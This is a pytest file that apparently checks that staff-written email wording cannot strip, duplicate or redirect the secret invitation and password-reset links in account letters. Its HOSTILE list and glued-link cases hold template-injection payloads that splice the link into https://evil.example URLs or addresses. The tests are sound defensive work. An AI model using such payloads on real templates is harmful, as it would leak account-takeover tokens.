"""Letters that carry an account's secret: the line with its link is the product's, whatever staff
have written.
"""

import pytest

from dam.database.models import Invitation, User
from dam.errors import BadInput
from dam.mail import letters, override_check, overrides, unfit_overrides
from dam.mail.filling import Wording, own_words
from dam.mail.kinds import ACCOUNT_LINKS, draft_sample_letters
from dam.mail.letters import LetterDraft
from dam.mail.render import render_letter, render_without_secrets
from tests.support.letters import LETTERHEAD, WRITTEN_AT, render_draft

OPEN_AN_ACCOUNT = {"invitation", "password"}
"""What the links that open an account are signed as."""
INVITATION = (
    letters.draft_invitation(
        Invitation(id=2, email="ny@inera.test", token_generation=3), WRITTEN_AT
    ),
    f"https://press.example.se/redaktion/inbjudan/{LETTERHEAD.signer.token('invitation', 2, 3)}",
)
NEW_PASSWORD = (
    letters.new_password(User(id=6, email="kim@inera.test", password_generation=4), WRITTEN_AT),
    f"https://press.example.se/redaktion/nytt-losenord/{LETTERHEAD.signer.token('password', 6, 4)}",
)
BOTH = pytest.mark.parametrize(
    ("draft", "address"), [INVITATION, NEW_PASSWORD], ids=["invitation", "new_password"]
)


def links_of(value: object) -> set[str]:
    if isinstance(value, list):
        return set().union(*map(links_of, value))
    return {str(value["link"])} if isinstance(value, dict) and "link" in value else set()


@pytest.mark.parametrize("language", ["sv", "en"])
def test_every_letter_that_opens_an_account_is_known(language: str):
    found = {
        kind: name
        for kind, drafts in draft_sample_letters(language, WRITTEN_AT).items()
        for draft in drafts
        for name, value in draft.context.items()
        if links_of(value) & OPEN_AN_ACCOUNT
    }
    assert found == ACCOUNT_LINKS


@BOTH
def test_the_link_stands_alone_and_no_row_holds_it(draft: LetterDraft, address: str):
    said = render_draft(draft)
    assert said.text.splitlines().count(address) == 1
    assert f'<a href="{address}">{address}</a>' in said.html
    assert "till och med 13 mars 2026 kl. 09.00." in said.text
    assert address not in str(draft.context)
    hidden = render_without_secrets(draft.kind, "sv", draft.context, LETTERHEAD)
    assert address not in hidden.text + hidden.html
    assert "\n(personlig länk)\n" in hidden.text


HOSTILE = [
    "Hej",
    "{{ link }}",
    "https://evil.example/?u={{ link }}",
    "{{ [link]|join }}",
    "{% for link in [1] %}{{ link }}{% endfor %}",
    "{% if link %}https://evil.example{% endif %}",
    "{{ link|default('https://evil.example') }}",
    "{% include 'invitation/account.txt' %}",
    "<!-- {#",
    "https://evil.example/?u=",
    "\n" * 5_000,
]


@pytest.mark.parametrize("body", HOSTILE)
@BOTH
def test_no_wording_removes_changes_or_leads_the_link_elsewhere(
    draft: LetterDraft, address: str, body: str
):
    own = render_draft(draft)
    said = render_letter(draft.kind, "sv", Wording(body=body).beside(draft.context), LETTERHEAD)
    assert said.text.splitlines().count(address) == 1
    assert said.text.count(address.rpartition("/")[2]) == 1
    assert said.html.count(f'<a href="{address}">{address}</a>') == 1
    assert said.html.count(address) == own.html.count(address)
    assert said.text.splitlines()[-5:] == own.text.splitlines()[-5:]


@pytest.mark.parametrize("kind", sorted(ACCOUNT_LINKS))
def test_words_from_before_that_say_the_link_are_told_and_not_sent(kind: str, database):
    [draft, _] = draft_sample_letters("sv", WRITTEN_AT)[kind]
    words = Wording(
        body=f"{own_words(kind, 'sv').body}\n\nHit: https://evil.example/{{{{ link }}}}"
    )
    with pytest.raises(BadInput) as error:
        override_check.check_wording(Wording("Hej", words.body), [draft])
    assert "Ta bort {{ link }}" in error.value.fields["body"]
    with database.writing() as session:
        overrides.save_letter_text(session, kind, "sv", words, version=0, by=None, now=WRITTEN_AT)
        assert overrides.complete_draft(session, draft) == draft
        [unfit] = unfit_overrides.list_unfit_wordings(session, WRITTEN_AT)
        assert unfit.kind == kind
        assert "Ta bort {{ link }}" in unfit.sentence


LINKS = [
    (kind, name)
    for kind, drafts in draft_sample_letters("sv", WRITTEN_AT).items()
    for name, value in drafts[0].context.items()
    if isinstance(value, dict) and "link" in value and name != ACCOUNT_LINKS.get(kind)
]


@pytest.mark.parametrize(("kind", "name"), LINKS)
def test_no_letters_link_is_a_part_of_another_address(kind: str, name: str):
    drafts, own = draft_sample_letters("sv", WRITTEN_AT)[kind], own_words(kind, "sv")
    for glued in (f"https://evil.example/?u={{{{ {name} }}}}", f"{{{{ {name} }}}}@evil.example"):
        with pytest.raises(BadInput) as error:
            override_check.check_wording(Wording(own.subject, f"{own.body}\n\n{glued}"), drafts)
        assert error.value.fields["body"].startswith("Skriv mellanslag eller ny rad")
    override_check.check_wording(
        Wording(own.subject, f"{own.body}\n\nHär: {{{{ {name} }}}}."), drafts
    )
